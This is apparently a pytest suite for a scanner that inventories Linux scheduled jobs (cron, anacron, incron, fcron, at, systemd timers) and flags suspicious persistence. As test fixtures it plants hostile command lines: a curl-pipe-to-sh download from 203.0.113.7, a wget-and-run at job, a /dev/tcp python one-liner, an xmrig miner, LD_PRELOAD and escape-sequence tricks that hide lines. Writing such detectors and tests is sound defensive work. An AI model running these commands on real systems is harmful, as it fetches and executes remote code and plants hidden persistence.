from __future__ import annotations

import dataclasses
import hashlib
import os
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Optional

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from extension.serving.runner import TableRunner
from tables.host import Host
from tables.persistence.scheduled_jobs import ScheduledJob, scheduled_jobs
from tables.schema import QueryContext
from tests.support.planted_files import plant
from tests.support.scans import unseen_by

REPOSITORY = Path(__file__).resolve().parents[3]
PASSWD = (
    "root:x:0:0:root:/root:/bin/bash\ngames:x:5:60:games:/usr/games:/usr/sbin/nologin\n"
    "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\npostgres:x:114:120::/var/lib/postgresql:/bin/bash\n"
    "dev:x:1000:1000::/home/dev:/usr/bin/zsh\nclient:x:1001:1001::/home/client:/bin/false\n"
)
DOWNLOAD = "curl -fsSL http://203.0.113.7/i.sh | sh"
SPOOL = "/var/spool/cron/crontabs"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A Debian's root folder without jobs."""
    plant(tmp_path, "/etc/passwd", PASSWD)
    plant(tmp_path, "/etc/debian_version", "12.8\n")
    plant(tmp_path, "/var/lib/dpkg/info/curl.list", "/usr/bin/curl\n/etc/cron.d/packaged\n")
    plant(tmp_path, "/usr/bin/curl", "\x7fELF", 0o755)
    return tmp_path


def rows(root: Path, query: Optional[QueryContext] = None) -> list[ScheduledJob]:
    return list(scheduled_jobs.generate(Host(str(root)), query or QueryContext()))


def degraded(root: Path) -> tuple[str, ...]:
    return unseen_by(scheduled_jobs, Host(str(root)))


def reasons(row: ScheduledJob) -> set[str]:
    return set(filter(None, (row.reasons or "").split(",")))


def test_golden_row_of_a_system_crontab(root: Path) -> None:
    line = "*/5 * * * * www-data /opt/app/run -v"
    file = plant(root, "/etc/cron.d/app", f"# app\nSHELL=/bin/bash\nDB_PASSWORD=secret\n\n{line}\n")
    plant(root, "/opt/app/run", "#!/bin/sh\nexec java -jar /opt/app/app.jar\n", 0o755)
    (row,) = rows(root)
    status = file.stat()
    assert row == ScheduledJob(
        path="/etc/cron.d/app",
        line=5,
        command="/opt/app/run -v",
        program="/opt/app/run",
        arguments="-v",
        program_path="/opt/app/run",
        program_exists=1,
        program_owner_uid=os.getuid(),
        program_package=None,
        program_is_packaged=0,
        program_reasons="",
        package=None,
        is_packaged=0,
        mtime=int(status.st_mtime),
        ctime=int(status.st_ctime),
        owner_uid=os.getuid(),
        mode="0644",
        file_size=status.st_size,
        sha256=hashlib.sha256(file.read_bytes()).hexdigest(),
        reasons="",
        alert_reasons="",
        scheduler="cron.d",
        schedule="*/5 * * * *",
        schedule_text="every 5 minutes",
        is_reboot=0,
        run_as="www-data",
        environment="SHELL=/bin/bash DB_PASSWORD",
        enabled=1,
        disabled_why=None,
    )


@pytest.mark.parametrize(
    ("path", "text", "scheduler", "run_as", "command"),
    [
        ("/etc/crontab", "@daily dev /opt/a\n", "system_crontab", "dev", "/opt/a"),
        ("/etc/cron.d/a", "@daily dev /opt/a\n", "cron.d", "dev", "/opt/a"),
        (f"{SPOOL}/dev", "@daily /opt/a\n", "user_crontab", "dev", "/opt/a"),
        ("/var/spool/cron/dev", "@daily /opt/a\n", "user_crontab", "dev", "/opt/a"),
        ("/var/spool/cron/tabs/dev", "@daily /opt/a\n", "user_crontab", "dev", "/opt/a"),
        ("/etc/crontabs/root", "@daily /opt/a\n", "user_crontab", "root", "/opt/a"),
        ("/etc/anacrontab", "1 5 id /opt/a\n", "anacron", "root", "/opt/a"),
        ("/etc/incron.d/x", "/srv IN_CREATE /opt/a $#\n", "incron", "root", "/opt/a $#"),
        ("/var/spool/incron/dev", "/srv IN_CREATE /opt/a\n", "incron", "dev", "/opt/a"),
        ("/var/spool/fcron/dev.orig", "@ 30 /opt/a\n", "fcron", "dev", "/opt/a"),
        (
            "/var/spool/at/a0000101c0ffee",
            "#!/bin/sh\n# atrun uid=1000 gid=1000\ncd / || {\na\nb\n}\n/opt/a\n",
            "at",
            "dev",
            "/opt/a",
        ),
        ("/var/spool/cron/atjobs/b0000101c0ffee", "/opt/a\n", "at", "root", "/opt/a"),
        ("/var/spool/atjobs/a0000101c0ffee", "/opt/a\n", "at", "root", "/opt/a"),
        ("/etc/cron.daily/a", "#!/bin/sh\n/opt/a\n", "cron_script", "root", "/etc/cron.daily/a"),
        ("/etc/periodic/15min/a", "#!/bin/sh\n/opt/a\n", "cron_script", "root", "/etc/periodic/15min/a"),
    ],
)
def test_every_scheduler(root: Path, path: str, text: str, scheduler: str, run_as: str, command: str) -> None:
    owner = os.getuid()
    plant(root, path, text, 0o700)
    (row,) = rows(root)
    assert (row.scheduler, row.path, row.command) == (scheduler, path, command)
    assert row.run_as == run_as or (scheduler == "at" and owner != 0)
    assert row.schedule_text or scheduler == "fcron"


def test_a_timer_shows_what_its_service_starts(root: Path) -> None:
    plant(root, "/etc/systemd/system/u.timer", "[Timer]\nOnBootSec=5min\nOnCalendar=Mon *-*-* 03:00\nUnit=v.service\n")
    plant(root, "/etc/systemd/system/v.service", "[Service]\nUser=dev\nEnvironment=TOKEN=x\nExecStart=-/var/tmp/u -k\n")
    (row,) = rows(root)
    assert (row.scheduler, row.path, row.line, row.run_as) == ("systemd_timer", "/etc/systemd/system/u.timer", 2, "dev")
    assert (row.schedule, row.is_reboot) == ("OnBootSec=5min; OnCalendar=Mon *-*-* 03:00", 1)
    assert row.schedule_text == "5min after boot and at 03:00 on Mon"
    assert (row.program_path, row.reasons, row.environment) == ("/var/tmp/u", "temp_path", "TOKEN")
    assert (row.enabled, row.disabled_why) == (0, "no unit wants it")
    (root / "etc/systemd/system/timers.target.wants").mkdir()
    (root / "etc/systemd/system/timers.target.wants/u.timer").symlink_to("../u.timer")
    assert rows(root)[0].enabled


@pytest.mark.parametrize(
    ("path", "text", "expected"),
    [
        ("/etc/cron.d/a", f"* * * * * root {DOWNLOAD}\n", {"download_and_run"}),
        ("/etc/cron.d/.a", "* * * * * root /opt/a\n", {"dotfile"}),
        (f"{SPOOL}/root", f"* * * * * sh%{DOWNLOAD}\n", {"download_and_run"}),
        (f"{SPOOL}/root", "* * * * * python3 -%import os%exec(open('/dev/tcp/203.0.113.7/1'))\n", {"dev_tcp"}),
        (f"{SPOOL}/root", "* * * * * /opt/a\rno crontab for root\n", {"control_characters"}),
        (f"{SPOOL}/root", "* * * * * /opt/a\n#\x1b[2K\x1b[1A\n", {"control_characters"}),
        (f"{SPOOL}/root", "#\x1b[8m\n* * * * * /opt/a\n", {"control_characters"}),
        (f"{SPOOL}/root", " " * 300 + "* * * * * /opt/a\n", {"padding"}),
        (f"{SPOOL}/root", "# mine\n" + "\n" * 200 + "* * * * * /opt/a\n", {"padding"}),
        (f"{SPOOL}/root", "LD_PRELOAD=/usr/lib/x.so\n* * * * * /usr/bin/curl\n", {"ld_preload"}),
        (f"{SPOOL}/root", "SHELL=/tmp/sh\n* * * * * true\n", {"temp_path"}),
        (f"{SPOOL}/root", "SHELL=/usr/bin/python3\n* * * * * import socket,os;os.system('x')\n", {"interpreter_one_liner"}),
        (f"{SPOOL}/root", "BASH_ENV=/tmp/.e\n* * * * * true\n", {"hidden_path", "temp_path"}),
        (f"{SPOOL}/root", "PATH=/dev/shm:/bin\n* * * * * worker\n", {"temp_path"}),
        (f"{SPOOL}/games", "* * * * * /opt/a\n", {"system_account_crontab"}),
        (f"{SPOOL}/nobody9", "* * * * * /opt/a\n", {"spool_of_unknown_account"}),
        (f"{SPOOL}/root", "@reboot ~/.config/.x/run\n", {"hidden_path"}),
        ("/var/spool/at/a0000101c0ffee", "cd / || {\na\nb\n}\nwget -q 203.0.113.7/a && sh a\n", {"download_and_run"}),
        ("/etc/anacrontab", "1 5 id /opt/xmrig -B\n", {"known_miner"}),
    ],
)
def test_reasons(root: Path, path: str, text: str, expected: set[str]) -> None:
    plant(root, path, text, 0o600)
    (row,) = rows(root)
    assert expected <= reasons(row)


@pytest.mark.parametrize(
    "line",
    [
        "/opt/backup/run.sh",
        "curl -fsS https://hc-ping.com/5f0a1b2c-8c1e-4f0e-9a7c-0123456789ab",
        "wget -q -O- https://shop.example.org/cron.php >/dev/null 2>&1",
        "curl -s http://127.0.0.1/status | perl -ne 'print if /x/' | mail -s status ops@example.org",
        "php -f /var/www/nextcloud/cron.php",
        "cd /var/www/app && php artisan schedule:run >> /dev/null 2>&1",
        '"/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh"',
        "/srv/app/.venv/bin/python /srv/app/manage.py clearsessions",
        "/home/dev/.cargo/bin/topgrade -y; cd /opt/web && node_modules/.bin/next build",
        "tar czf /srv/b-$(date +\\%F).tgz\t/etc  # täglich 每天",
        "flock -w 0 /tmp/job.lock /usr/bin/python3 /opt/app/job.py --out /tmp/x",
        "cd /tmp && rm -f sess_*",
        "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
        "test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew",
        "test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r",
        "if [ -x /usr/share/mdadm/checkarray ] && [ $(date +\\%d) -le 7 ]; then /usr/share/mdadm/checkarray --cron --all; fi",
        ". /home/oracle/.bash_profile; /u01/app/scripts/rman.sh",
        "mail -s lunch ops%Menu: | soup%",
        "base64 -d /srv/in.b64 > /srv/in.bin && sha256sum /srv/in.bin | tee /srv/in.sum",
        "curl -s https://api.example.org/x.json | jq .price | tee /srv/price.txt",
    ],
)
def test_ordinary_jobs_give_no_reason(root: Path, line: str) -> None:
    plant(
        root,
        "/opt/backup/run.sh",
        "#!/bin/bash\npg_dump shop | gzip > /srv/shop.gz\ncurl -fsS https://x.example.org\n",
        0o755,
    )
    plant(root, "/etc/cron.d/job", f"SHELL=/bin/bash\nMAILTO=root\n17 3 * * * root {line}\r\n")
    (row,) = rows(root)
    assert (row.reasons, row.program_reasons or "") == ("", "")


def test_the_script_that_a_job_runs_is_judged(root: Path) -> None:
    plant(root, "/usr/local/bin/sys-update.sh", f"#!/bin/sh\n{DOWNLOAD}\n", 0o755)
    plant(root, "/etc/cron.d/sys", "@hourly root /usr/local/bin/sys-update.sh\n")
    (row,) = rows(root)
    assert (row.reasons, row.program_reasons, row.program_is_packaged) == ("", "download_and_run", 0)


def test_a_link_is_judged_by_where_it_leads(root: Path) -> None:
    plant(root, "/dev/shm/.c/tab", "* * * * * /opt/a\n", 0o600)
    (root / "var/spool/cron/crontabs").mkdir(parents=True)
    (root / "var/spool/cron/crontabs/root").symlink_to("/dev/shm/.c/tab")
    (row,) = rows(root)
    assert (row.path, row.run_as) == ("/dev/shm/.c/tab", "root")
    assert {"temp_path", "hidden_path"} <= reasons(row)


def test_everybody_may_write(root: Path) -> None:
    plant(root, "/etc/crontab", "@daily root /opt/a\n", 0o666)
    (row,) = rows(root)
    assert (row.reasons, row.enabled, row.disabled_why) == ("world_writable", 0, "writable by others")


SCRIPT = f"""#!/bin/sh
# housekeeping
set -e
test -d /srv || exit 0
{DOWNLOAD}
/usr/local/bin/inner
rm -rf /srv/tmp
"""


def test_of_a_script_there_is_one_row_and_one_for_each_suspicious_command(root: Path) -> None:
    plant(root, "/etc/cron.hourly/gcc", SCRIPT, 0o755)
    plant(root, "/usr/local/bin/inner", "#!/bin/sh\n/dev/shm/kw &\n", 0o755)
    plant(root, "/etc/cron.daily/report", "#!/usr/bin/python3\nprint(1)\n", 0o755)
    plant(root, "/etc/cron.daily/.placeholder", "# DO NOT EDIT OR REMOVE\n")
    plant(root, "/etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
    found = [(row.path, row.line, row.command, row.schedule, row.schedule_text) for row in rows(root)][1:]
    hourly = ("17 * * * *", "every hour at minute 17")
    assert found == [
        ("/etc/cron.hourly/gcc", 0, "/etc/cron.hourly/gcc", *hourly),
        ("/etc/cron.hourly/gcc", 5, "curl -fsSL http://203.0.113.7/i.sh", *hourly),
        ("/etc/cron.hourly/gcc", 6, "/usr/local/bin/inner", *hourly),
        ("/etc/cron.daily/report", 0, "/etc/cron.daily/report", None, "every day"),
    ]


def test_a_linked_script_has_the_name_that_cron_knows_as_its_command(root: Path) -> None:
    plant(root, "/opt/app/nightly", "#!/bin/sh\n/opt/app/run\n", 0o755)
    (root / "etc/cron.daily").mkdir()
    (root / "etc/cron.daily/app").symlink_to("/opt/app/nightly")
    (row,) = rows(root)
    assert (row.path, row.command, row.program_path) == ("/opt/app/nightly", "/etc/cron.daily/app", "/opt/app/nightly")


def test_without_a_list_of_accounts_none_is_called_unknown(tmp_path: Path) -> None:
    plant(tmp_path, f"{SPOOL}/dev", "@daily /opt/a\n", 0o600)
    (row,) = rows(tmp_path)
    assert (row.reasons, row.enabled) == ("", 1)
    assert any("/etc/passwd" in text for text in degraded(tmp_path))


def test_folders_that_a_crontab_has_run_parts_go_through(root: Path) -> None:
    plant(
        root,
        "/etc/cron.d/x",
        "* * * * * root run-parts --regex=. /opt/x/../parts >/dev/null\n",
    )
    plant(root, "/opt/parts/a", "#!/bin/sh\n/opt/a\n", 0o755)
    assert [(row.command, row.schedule_text) for row in rows(root) if row.scheduler == "cron_script"] == [
        ("/opt/parts/a", "every minute")
    ]


@pytest.mark.parametrize(
    ("distribution", "path", "mode", "why"),
    [
        ("debian", "/etc/cron.d/app", 0o644, None),
        ("debian", "/etc/cron.d/app.sh", 0o644, "passes over names"),
        ("debian", "/etc/cron.d/app", 0o664, "writable by others"),
        ("debian", "/etc/crontab", 0o600, None),
        ("debian", f"{SPOOL}/dev", 0o600, None),
        ("debian", f"{SPOOL}/dev", 0o644, "mode is not 0600"),
        ("debian", f"{SPOOL}/ghost", 0o600, "no such account"),
        ("debian", "/etc/cron.daily/app", 0o644, "not executable"),
        ("debian", "/etc/cron.daily/app", 0o755, None),
        ("debian", "/etc/cron.daily/app.sh", 0o755, "run-parts passes over"),
        ("el", "/etc/cron.d/app.sh", 0o644, None),
        ("el", "/etc/cron.d/app.rpmsave", 0o644, "passes over such names"),
        ("el", "/etc/cron.d/.app", 0o644, "passes over such names"),
        ("el", "/etc/cron.d/app", 0o755, "executable"),
        ("el", "/var/spool/cron/dev", 0o600, None),
        ("el", "/etc/cron.daily/app.cron", 0o755, None),
        ("el", "/etc/cron.daily/app.rpmnew", 0o755, "run-parts passes over"),
        ("alpine", "/etc/cron.d/app", 0o644, "busybox"),
        ("alpine", "/etc/crontabs/root", 0o666, None),
        ("alpine", "/etc/periodic/daily/a.sh", 0o755, "run-parts passes over"),
    ],
)
@pytest.mark.root
def test_what_the_scheduler_passes_over(tmp_path: Path, distribution: str, path: str, mode: int, why: str | None) -> None:
    plant(tmp_path, "/etc/passwd", PASSWD)
    if distribution == "debian":
        plant(tmp_path, "/etc/debian_version", "12.8\n")
    if distribution == "alpine":
        plant(tmp_path, "/bin/busybox", "", 0o755)
        (tmp_path / "usr/sbin").mkdir(parents=True)
        (tmp_path / "usr/sbin/crond").symlink_to("/bin/busybox")
    text = "#!/bin/sh\n/opt/a\n" if "daily" in path else "@daily root /opt/a\n"
    plant(tmp_path, path, text, mode)
    (row,) = rows(tmp_path)
    assert row.enabled == (why is None)
    assert (row.disabled_why is None) if why is None else (why in (row.disabled_why or ""))


@pytest.mark.root
def test_files_of_the_wrong_owner_and_with_a_second_name(root: Path) -> None:
    os.chown(plant(root, "/etc/cron.d/theirs", "@daily root /opt/a\n"), 1000, 1000)
    os.chown(plant(root, f"{SPOOL}/dev", "@daily /opt/a\n", 0o600), 33, 33)
    postgres = plant(root, f"{SPOOL}/postgres", "@daily /opt/a\n", 0o600)
    os.link(postgres, root / "kept")
    assert [(row.run_as, row.disabled_why) for row in rows(root)] == [
        ("root", "not owned by root"),
        ("dev", "owned by another account"),
        ("postgres", "has more than one link"),
    ]


@pytest.mark.parametrize(
    ("services", "expected"), [("files systemd", {"spool_of_unknown_account"}), ("files [NOTFOUND=continue] sss", set())]
)
def test_accounts_of_a_directory_service_are_not_called_unknown(root: Path, services: str, expected: set[str]) -> None:
    plant(root, "/etc/nsswitch.conf", f"# x\npasswd:         {services}\ngroup: ldap\n")
    plant(root, f"{SPOOL}/j.doe", "@daily /opt/a\n", 0o600)
    (row,) = rows(root)
    assert reasons(row) == expected


def test_system_accounts_that_may_log_in_and_customers_that_may_not_are_ordinary(root: Path) -> None:
    for name in ("root", "postgres", "client", "dev"):
        plant(root, f"{SPOOL}/{name}", "@daily /opt/a\n", 0o600)
    assert {row.reasons for row in rows(root)} == {""}


def test_values_of_variables_are_judged_but_not_shown(root: Path) -> None:
    text = "API_KEY=hunter2\nPOOL=stratum+tcp://203.0.113.7:3333\nMAILTO=ops@example.org\n@daily /opt/a\n"
    plant(root, f"{SPOOL}/root", text, 0o600)
    (row,) = rows(root)
    assert row.environment == "MAILTO=ops@example.org API_KEY POOL"
    assert row.reasons == "known_miner"


def test_packages_own_files_and_programs(root: Path) -> None:
    plant(root, "/etc/cron.d/packaged", "@daily root curl -s https://example.org\n")
    (row,) = rows(root)
    assert (row.package, row.program_path, row.program_package) == ("curl", "/usr/bin/curl", "curl")


def test_a_program_is_looked_for_where_the_job_would_find_it(root: Path) -> None:
    plant(root, "/opt/bin/worker", "#!/bin/sh\n", 0o755)
    plant(root, "/home/dev/bin/mine", "#!/bin/sh\n", 0o755)
    plant(root, f"{SPOOL}/dev", "PATH=/opt/bin:/bin\n@daily worker\n@daily bin/mine\n@daily ~/bin/mine\n", 0o600)
    assert [row.program_path for row in rows(root)] == ["/opt/bin/worker", "/home/dev/bin/mine", "/home/dev/bin/mine"]


def test_a_percent_sign_means_something_in_crontabs_alone(root: Path) -> None:
    plant(root, "/etc/anacrontab", f"1 5 id sh%{DOWNLOAD.partition(' |')[0]}\n")
    plant(root, "/etc/incron.d/x", "/srv IN_CREATE /opt/a $% $#\n")
    assert [(row.program, row.arguments, row.reasons) for row in rows(root)] == [
        ("sh%curl", "-fsSL http://203.0.113.7/i.sh", ""),
        ("/opt/a", "$% $#", ""),
    ]


def test_the_jobs_of_the_system_in_fcron_are_roots(root: Path) -> None:
    plant(root, "/var/spool/fcron/systab.orig", "%daily,runas(dev) * 3 /opt/a\n@ 30 /opt/b\n", 0o600)
    plant(root, "/var/spool/fcron/systab", "compiled\n@daily /opt/c\n")
    assert [(row.run_as, row.command, row.reasons) for row in rows(root)] == [("dev", "/opt/a", ""), ("root", "/opt/b", "")]


def test_no_host_without_jobs_has_rows(root: Path) -> None:
    (root / "etc/cron.d").mkdir()
    (root / "var/spool/cron/crontabs").mkdir(parents=True)
    plant(root, "/var/spool/cron/atjobs/.SEQ", "00001\n")
    plant(root, "/etc/cron.d/README", "2 spoons of text and no job\n")
    assert rows(root) == []
    assert degraded(root) == ()


def test_what_is_no_regular_file_is_named_and_the_rest_reported(root: Path) -> None:
    plant(root, "/etc/cron.d/a", "@daily root /opt/a\n")
    os.mkfifo(root / "etc/cron.d/pipe")
    (root / "etc/cron.d/loop").symlink_to("loop")
    assert [row.command for row in rows(root)] == ["/opt/a"]
    assert any("/etc/cron.d/pipe" in text for text in degraded(root))


def test_no_link_leaves_the_root_folder(root: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    outside = plant(tmp_path_factory.mktemp("outside"), "/tab", "@daily root /opt/a\n")
    (root / "etc/cron.d").mkdir()
    (root / "etc/cron.d/a").symlink_to(outside)
    (root / "etc/cron.d/b").symlink_to(f"../../../../../../../../{outside}")
    assert rows(root) == []


def test_a_huge_crontab_is_cut_and_says_so(root: Path) -> None:
    plant(root, f"{SPOOL}/root", "* * * * * /opt/a\n" * 2500, 0o600)
    query = QueryContext()
    assert len(rows(root, query)) == 2000
    assert query.truncated and "2000 jobs" in query.truncated


@pytest.mark.root
@pytest.mark.parametrize("padding", ["\n" * (5 << 20), " " * (5 << 20), "# c\n" * (3 << 19), "#" + "x" * (5 << 20) + "\n"])
def test_no_padding_hides_a_job(root: Path, padding: str) -> None:
    plant(root, "/etc/cron.d/x", padding + "* * * * * root /opt/a\n")
    query = QueryContext()
    (row,) = rows(root, query)
    assert row.command == "/opt/a"
    assert "evades_limits" in reasons(row)
    assert not query.cuts


def test_a_crontab_with_long_comments_is_honest(root: Path) -> None:
    plant(root, "/etc/cron.d/x", "# what this does, and for whom, and why\n" * 500 + "* * * * * root /opt/a\n")
    assert [row.reasons for row in rows(root)] == [""]


def test_an_ordinary_user_sees_what_may_be_seen_and_is_told_of_the_rest() -> None:
    # Python itself may lie where another user cannot go: all that is needed is loaded before.
    code = (
        "import os, sys\nfrom tables.host import Host\nfrom tables.persistence.scheduled_jobs import scheduled_jobs\n"
        "from tables.schema import QueryContext\nfrom tables.reasons.commands import command_reasons\n"
        "command_reasons('x'); os.setgroups([]); os.setgid(65534); os.setuid(65534); query = QueryContext()\n"
        "print([row.command for row in scheduled_jobs.generate(Host(sys.argv[1]), query)])\n"
        "print(query.unseen)\n"
    )
    # Not below pytest's own folder, which is closed to others.
    with tempfile.TemporaryDirectory() as folder:
        root = Path(folder)
        root.chmod(0o755)
        plant(root, "/etc/cron.d/a", "@daily root /opt/a\n")
        plant(root, f"{SPOOL}/root", "@daily /opt/b\n", 0o600)
        (root / "var/spool/cron/crontabs").chmod(0o700)
        done = subprocess.run([sys.executable, "-c", code, folder], cwd=REPOSITORY, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert "['/opt/a']" in done.stdout and f"{SPOOL}: Permission denied" in done.stdout


@settings(max_examples=60, deadline=None)
@given(
    st.sampled_from(["/etc/crontab", "/etc/cron.daily/a", f"{SPOOL}/root", "/etc/anacrontab", "/var/spool/at/a0000101c0ffee"]),
    st.binary(max_size=200) | st.text(alphabet=st.sampled_from("*0 1\t\n%|;#'\"=@$()`\\ab/\x1b\r"), max_size=200).map(str.encode),
)
def test_any_file_is_read_without_error(path: str, content: bytes) -> None:
    with tempfile.TemporaryDirectory() as folder:
        plant(Path(folder), path, content, 0o755)
        query = QueryContext()
        for row in rows(Path(folder), query):
            row.to_wire()
        assert query.truncated is None


def test_what_could_not_be_seen_is_said_although_the_rows_were_cut(root: Path) -> None:
    (root / "etc/cron.d").mkdir()
    (root / "etc/cron.d/loop").symlink_to("loop")
    plant(root, "/etc/crontab", "@daily root /opt/a\n@daily root /opt/b\n@daily root /opt/c\n")
    host = Host(str(root))
    runner = TableRunner(dataclasses.replace(scheduled_jobs, max_rows=2), host)
    assert len(runner.generate(None)) == 2
    record = host.status.get("scheduled_jobs")
    assert record.truncated == "more than 2 rows" and "/etc/cron.d/loop" in record.degraded[0]


def test_files_beyond_the_bound_of_a_folder_are_said_to_be_cut(root: Path) -> None:
    (root / "etc/cron.d").mkdir()
    for number in range(4200):
        (root / f"etc/cron.d/a{number}").touch()
    plant(root, "/etc/cron.d/zz", "@daily root curl http://203.0.113.9/a | sh\n")
    query = QueryContext()
    rows(root, query)
    assert query.truncated == "/etc/cron.d: only 4096 of 4201 files were read, of each owner as many"
